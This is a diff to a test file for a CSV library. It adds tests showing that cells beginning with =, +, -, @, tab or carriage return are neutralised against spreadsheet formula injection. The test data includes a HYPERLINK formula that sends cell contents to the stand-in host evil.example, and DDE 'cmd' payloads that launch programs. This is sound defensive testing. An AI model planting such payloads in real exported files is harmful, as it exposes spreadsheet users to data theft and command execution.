@@ -1,12 +1,26 @@
 import fc from 'fast-check';
-import { CsvSyntaxError, csvField, csvRecord, parseCsv } from './csv.js';
+import { CsvSyntaxError, csvField, csvRecord, neutraliseFormula, parseCsv } from './csv.js';
 
 describe('csvField', () => {
   it('leaves plain text as it is, Vietnamese included', () => {
     expect(csvField('Xây dựng mạng LAN kết nối WAN tỉnh')).toBe('Xây dựng mạng LAN kết nối WAN tỉnh');
     expect(csvField('')).toBe('');
     expect(csvField('  spaces kept  ')).toBe('  spaces kept  ');
-    expect(csvField("=1+1 and 'quotes'")).toBe("=1+1 and 'quotes'");
+    expect(csvField("1+1 and 'quotes' = 2")).toBe("1+1 and 'quotes' = 2");
+    expect(csvField('-1')).toBe('-1');
+    expect(csvField('+2.5')).toBe('+2.5');
+  });
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Chi tiết"")"`],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ['-2+3+cmd|x', "'-2+3+cmd|x"],
+    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+  ])('neutralises a cell a spreadsheet would run as a formula (OWASP): %j', (value, written) => {
+    expect(csvField(value)).toBe(written);
+    expect(parseCsv(csvRecord([value, '1']))).toEqual([["'" + value, '1']]);
   });
 
   it('quotes a field with a comma, a quote, CR or LF, doubling the quotes (RFC 4180)', () => {
@@ -41,7 +55,7 @@ describe('parseCsv', () => {
       fc.property(fc.integer({ min: 1, max: 6 }).chain((width) => fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 8 })), (records) => {
         // A single empty field makes an empty line, which RFC 4180 cannot tell from no record.
         fc.pre(records.every((r) => r.length > 1 || r[0] !== ''));
-        expect(parseCsv(records.map(csvRecord).join(''))).toEqual(records);
+        expect(parseCsv(records.map(csvRecord).join(''))).toEqual(records.map((r) => r.map(neutraliseFormula)));
       }),
       { numRuns: 300 },
     );
